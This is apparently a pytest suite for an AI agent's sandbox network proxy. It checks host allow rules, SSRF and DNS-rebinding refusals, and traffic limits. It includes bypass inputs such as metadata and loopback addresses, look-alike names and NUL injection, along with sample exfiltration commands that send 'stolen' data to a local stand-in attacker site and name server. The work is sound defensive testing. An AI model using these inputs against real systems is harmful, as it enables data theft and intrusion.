"""What reaches the network from inside of the sandbox, and what does not."""

import asyncio
import dataclasses
import socket
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agent.hosts import parse_rule
from agent.journal import Event, HostAsked
from agent.workspace import Finished, run
from agent.workspace.sandbox import proxy
from agent.workspace.sandbox.proxy import NetworkPolicy, Streams, connect, open_proxy
from tests.support.place import Place, a_place

PUBLIC = "93.184.215.14"


class _Site(BaseHTTPRequestHandler):
    """A site of the outer world."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_: object) -> None:
        pass

    def do_GET(self) -> None:
        body = f"site {self.headers['Host']} {self.path}\n".encode()
        if self.path == "/much":
            body = b"x" * 300_000
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@dataclass
class Net:
    """A worktree whose commands may ask some hosts; names and addresses are the test's."""

    place: Place
    port: int
    names: dict[str, Sequence[str]]
    events: list[Event] = field(default_factory=list)
    dialled: list[tuple[str, int]] = field(default_factory=list)
    looked_up: list[str] = field(default_factory=list)

    def run(self, command: str, *rules: str, **limits: float) -> Finished:
        """Run a command while the proxy serves the hosts of the rules."""
        return asyncio.run(self._run(command, rules, limits))

    async def _run(self, command: str, rules: Sequence[str], limits: dict[str, float]) -> Finished:
        policy = NetworkPolicy(hosts=tuple(parse_rule(rule) for rule in rules), **limits)  # type: ignore[arg-type]
        proxy = open_proxy(
            policy, stage="run", record=self.events.append, resolve=self.resolve, dial=self.dial
        )
        async with proxy as path:
            toolchain = dataclasses.replace(self.place.toolchain, network=path)
            return await run(
                command,
                confinement=toolchain.confine(self.place.tree.path),
                sandbox=self.place.sandbox,
                timeout=30,
            )

    async def resolve(self, host: str, port: int) -> Sequence[str]:
        self.looked_up.append(host)
        if host not in self.names:
            raise OSError(f"no such name: {host}:{port}")
        return self.names[host]

    async def dial(self, address: str, port: int) -> Streams:
        self.dialled.append((address, port))
        return await connect("127.0.0.1", self.port)

    @property
    def told(self) -> list[tuple[str, int, str]]:
        """Host, port and state of what was asked."""
        return [(e.host, e.port, e.state) for e in self.events if isinstance(e, HostAsked)]


@pytest.fixture
def net(tmp_path: Path) -> Iterator[Net]:
    """A place, and one site that stands for the world."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Site) as server, a_place(tmp_path) as place:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield Net(place, server.server_port, {"api.example.com": [PUBLIC]})
        server.shutdown()


def tunnel(where: str, request: str = "GET / HTTP/1.0\\r\\n\\r\\n") -> str:
    """Return a command that asks the proxy for a tunnel, byte by byte as written."""
    return (
        "exec 3<>/dev/tcp/127.9.9.9/3128; "
        f"printf 'CONNECT {where} HTTP/1.1\\r\\n\\r\\n{request}' >&3; timeout 5 cat <&3"
    )


class TestAllowed:
    """Hosts that the person allowed."""

    def test_S48_an_allowed_host_is_reached_by_a_tunnel(self, net: Net) -> None:
        """At the address that was looked up and checked, and it is recorded."""
        done = net.run(tunnel("api.example.com:443"), "api.example.com")
        assert "200 Connection established" in done.output
        assert "site" in done.output
        assert net.dialled == [(PUBLIC, 443)]
        assert net.told == [("api.example.com", 443, "allowed")]
        (event,) = net.events
        assert isinstance(event, HostAsked)
        assert event.address == PUBLIC
        assert event.sent > 0 < event.received

    def test_S48_curl_finds_the_proxy_by_itself(self, net: Net) -> None:
        """Plain http is asked for whole; the other side sees an ordinary request."""
        done = net.run("curl -sS http://api.example.com/a?b=c", "api.example.com")
        assert done.output == "site api.example.com /a?b=c\n"

    def test_S48_a_port_is_named_with_the_host(self, net: Net) -> None:
        """And then it is the only one."""
        done = net.run("curl -sS http://api.example.com:8080/", "api.example.com:8080")
        assert done.output == "site api.example.com:8080 /\n"
        done = net.run("curl -sS http://api.example.com/", "api.example.com:8080")
        assert "not among the allowed hosts" in done.output

    def test_own_servers_are_asked_without_the_proxy(self, net: Net) -> None:
        """A test's server on loopback has nothing to do with the network."""
        script = (
            "python3 -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 & "
            "for n in $(seq 50); do curl -sf http://localhost:8123/ >/dev/null && break; "
            "sleep 0.1; done; curl -s -o /dev/null -w '%{http_code}' http://localhost:8123/"
        )
        assert net.run(script, "api.example.com").output.endswith("200")
        assert net.told == []

    def test_the_exit_status_is_the_commands_own(self, net: Net) -> None:
        """What leads to the proxy stands in nobody's way."""
        assert net.run("exit 7", "api.example.com").status == 7
        assert net.run("sleep 30 & wait -n $!; true & wait; kill -9 $$", "api.example.com").status


class TestRefused:
    """Everything else."""

    @pytest.mark.parametrize(
        ("where", "reason"),
        [
            pytest.param("evil.example.net:443", "not among", id="another host"),
            pytest.param("api.example.com.evil.net:443", "not among", id="look-alike end"),
            pytest.param("evilapi.example.com:443", "not among", id="look-alike start"),
            pytest.param("a.api.example.com:443", "not among", id="below an exact name"),
            pytest.param("api.example.com:22", "not among", id="port 22"),
            pytest.param("api.example.com\\0.evil.net:443", "by name", id="NUL"),
            pytest.param("169.254.169.254:80", "by name", id="address"),
            pytest.param("[::1]:443", "by name", id="IPv6 address"),
            pytest.param("2130706433:443", "by name", id="number"),
            pytest.param("0x7f.1:443", "by name", id="hexadecimal"),
            pytest.param("x@api.example.com:443", "by name", id="user"),
            pytest.param("api.example.com", "no request for a proxy", id="no port"),
        ],
    )
    def test_S48_what_is_not_allowed_goes_nowhere(self, net: Net, where: str, reason: str) -> None:
        """Refused before any name is looked up, and recorded."""
        done = net.run(tunnel(where), "api.example.com", ".example.org")
        assert reason in done.output
        assert "site" not in done.output
        assert (net.dialled, net.looked_up) == ([], [])
        assert [state for *_, state in net.told] == ["refused"]

    @pytest.mark.parametrize(
        "address",
        [
            *("127.0.0.1", "10.1.2.3", "192.168.0.9", "172.20.0.1", "169.254.169.254", "0.0.0.0"),  # noqa: S104
            *("100.64.0.1", "100.100.100.200", "168.63.129.16", "224.0.0.1", "::1", "fd00::1"),
            *("fe80::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "::7f00:1"),
        ],
    )
    def test_S48_a_name_must_not_lead_inwards(self, net: Net, address: str) -> None:
        """Not even as one address among good ones."""
        net.names["api.example.com"] = [PUBLIC, address]
        done = net.run(tunnel("api.example.com:443"), "api.example.com")
        assert "403" in done.output
        assert net.dialled == []

    def test_S48_a_name_is_looked_up_once(self, net: Net) -> None:
        """A second answer of the name server (DNS rebinding) is never asked for."""
        answers = iter([[PUBLIC], ["127.0.0.1"]])

        async def rebinding(*_: object) -> Sequence[str]:
            return next(answers)

        net.resolve = rebinding  # type: ignore[method-assign,assignment]
        assert "site" in net.run(tunnel("api.example.com:443"), "api.example.com").output
        assert net.dialled == [(PUBLIC, 443)]

    def test_P06_without_the_proxy_there_is_no_way_out(self, net: Net) -> None:
        """Programs that leave the proxy aside meet the sandbox's own walls."""
        command = "curl -sS --noproxy '*' -m 5 http://192.0.2.1/; getent hosts api.example.com"
        done = net.run(command, "api.example.com")
        assert done.status != 0
        assert "unreachable" in done.output.lower() or "connect" in done.output.lower()
        assert net.told == []

    def test_P06_without_walls_words_leave_by_a_connection_and_by_a_name(self, net: Net) -> None:
        """A site and a name server of this machine stand for the attacker's.

        The machine's own resolver is not asked for a foreign name: whether it would carry the
        question on is a matter of the network that it is in.
        """
        query = "b'\\x00\\x01' + bytes(10) + b'\\x06stolen\\x08attacker\\x07example\\x00'"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.bind(("127.0.0.1", 0))
            server.settimeout(0.5)
            where = f"('127.0.0.1', {server.getsockname()[1]})"
            by_name = (
                'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)'
                f'.sendto({query}, {where})"'
            )
            by_connection = f"curl -sS --noproxy '*' http://127.0.0.1:{net.port}/stolen"
            assert "site" in net.place.bare(by_connection).output
            net.place.bare(by_name)
            assert b"stolen" in server.recv(99)
            assert "site" not in net.run(by_connection, "api.example.com").output
            net.run(by_name, "api.example.com")
            with pytest.raises(TimeoutError):
                server.recv(99)

    def test_S48_without_its_checks_the_proxy_leads_inwards(
        self, net: Net, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Whoever owns a name decides where it leads: here to this machine's own loopback."""
        net.names["api.example.com"] = ["127.0.0.1"]
        command = tunnel("api.example.com:443")
        assert "site" not in net.run(command, "api.example.com").output

        def unguarded(*_: object, **__: object) -> str:
            return ""

        monkeypatch.setattr(proxy, "address_problem", unguarded)
        assert "site" in net.run(command, "api.example.com").output
        assert net.dialled == [("127.0.0.1", 443)]

    def test_a_private_mirror_must_be_named_as_such(self, net: Net) -> None:
        """Then its address may be private, but never this machine's."""
        net.names["mirror.example.com"] = ["10.0.0.7"]
        policy = {"private": (parse_rule("mirror.example.com"),)}
        command = "curl -sS http://mirror.example.com/"
        assert "site" in net.run(command, "mirror.example.com", **policy).output  # type: ignore[arg-type]
        net.names["mirror.example.com"] = ["127.0.0.1"]
        assert "this machine" in net.run(command, "mirror.example.com", **policy).output  # type: ignore[arg-type]


class TestLimits:
    """What is allowed has an end."""

    def test_bytes(self, net: Net) -> None:
        """Of all connections together."""
        done = net.run(
            "curl -sS -o x http://api.example.com/much; wc -c < x",
            "api.example.com",
            most_bytes=100_000,
        )
        assert int(done.output.split()[-1]) <= 100_000
        assert any(isinstance(e, HostAsked) and "bytes" in e.reason for e in net.events)

    def test_requests(self, net: Net) -> None:
        """Later ones are refused, and no longer fill the journal."""
        command = "for n in 1 2 3 4; do curl -s -w '%{http_code} ' http://api.example.com/; done"
        done = net.run(command, "api.example.com", most_requests=2)
        assert done.output.count("200") == 2
        assert done.output.count("429") == 2
        assert len(net.events) == 2

    def test_time_and_silence(self, net: Net) -> None:
        """A connection that nobody uses is ended."""
        command = (
            "exec 3<>/dev/tcp/127.9.9.9/3128; "
            "printf 'CONNECT api.example.com:443 HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3; echo over"
        )
        assert "over" in net.run(command, "api.example.com", idle_seconds=0.3).output
        assert "over" in net.run(command, "api.example.com", seconds=0.3).output

    def test_a_head_without_end(self, net: Net) -> None:
        """Is not read for ever."""
        command = (
            "exec 3<>/dev/tcp/127.9.9.9/3128; head -c 100000 /dev/zero | tr '\\0' a >&3; cat <&3"
        )
        net.run(command, "api.example.com")
        assert [e.reason for e in net.events if isinstance(e, HostAsked)] == [
            "the request's head is too long"
        ]

    def test_many_at_once(self, net: Net) -> None:
        """Those beyond the limit are told so."""
        command = (
            "for n in 1 2 3; do exec {fd}<>/dev/tcp/127.9.9.9/3128; done; sleep 0.3; "
            "curl -s http://api.example.com/"
        )
        assert "too many" in net.run(command, "api.example.com", most_at_once=3).output


@pytest.mark.parametrize(
    "command",
    [
        "python3 -m pip install left-pad",
        "uv venv -q v && uv pip install --python v left-pad",
        "npm install left-pad",
        "git clone https://git.example.com/x.git",
    ],
)
def test_S47_installers_without_a_network_give_up(net: Net, command: str) -> None:
    """With a status of their own, long before their command's time is up."""
    program = command.split(maxsplit=1)[0]
    if not net.place.toolchain.programs([program]):
        pytest.skip(f"{program} is not installed")
    done = net.place.run(command, seconds=20)
    assert (done.ended, done.status != 0) == ("exit", True)


def test_nothing_of_the_hosts_is_visible_beside_the_socket(net: Net) -> None:
    """The folder of the socket is not there, nor do arguments show it."""
    done = net.run("ls -la /run /tmp; tr '\\0' ' ' < /proc/1/cmdline; env", "api.example.com")
    assert "prp-net-" not in done.output
    assert str(net.place.project.root) not in done.output
